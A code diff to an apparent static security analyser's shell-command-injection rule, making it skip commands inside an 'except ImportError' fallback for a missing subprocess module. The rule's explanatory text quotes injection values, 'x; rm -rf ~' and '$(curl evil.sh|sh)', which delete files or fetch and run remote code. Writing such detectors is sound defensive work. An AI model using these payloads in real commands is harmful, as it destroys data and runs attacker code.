@@ -26,6 +26,7 @@ from secreview.analysis.rules._support.built_strings import (
     string_pieces,
 )
 from secreview.analysis.rules._support.caller_arguments import filled_by_program
+from secreview.analysis.rules._support.import_fallbacks import in_missing_module_fallback
 from secreview.analysis.rules._support.library_calls import library_call_name
 from secreview.analysis.rules._support.local_bindings import sequence_elements, single_value
 from secreview.analysis.rules._support.quoting import code, name_values
@@ -268,7 +269,9 @@ def _command_hit(
     "`os.system`, `os.popen`, `asyncio.create_subprocess_shell`, the legacy `commands`, `popen2` "
     "and `platform.popen`, and argument lists that start a shell on a command string "
     '(`["sh", "-c", text]`, `os.execl("/bin/sh", "sh", "-c", text)`). Values quoted with '
-    "`shlex.quote`/`shlex.join` and numbers (`int(x)`, `%d`) are not counted.",
+    "`shlex.quote`/`shlex.join` and numbers (`int(x)`, `%d`) are not counted. A command in the "
+    "`except ImportError` fallback for a module every Python 3 ships (`try: import subprocess` "
+    "... `except ImportError: def popen(cmd): os.popen4(cmd)`) never runs and is not reported.",
     why_bad="The shell parses the whole string: a value such as `x; rm -rf ~` or "
     "`$(curl evil.sh|sh)` spliced into `ping -c 1 {host}` runs a second command with the "
     "application's privileges. Values that look internal often carry user data a few calls "
@@ -289,8 +292,8 @@ def shell_command_injection(node: ast.AST, context: ModuleContext) -> Iterator[H
     """Report shell command lines that splice in unquoted run-time values."""
     assert isinstance(node, ast.Call)
     name = library_call_name(node, _MODULES, context)
-    if name is None:
-        return
+    if name is None or in_missing_module_fallback(context, node):
+        return  # a fallback for a missing `subprocess` runs on no Python we support
     if name in _SHELL_CALLS:
         position, keyword = _SHELL_CALLS[name]
         command = ModuleContext.argument(node, position, keyword)
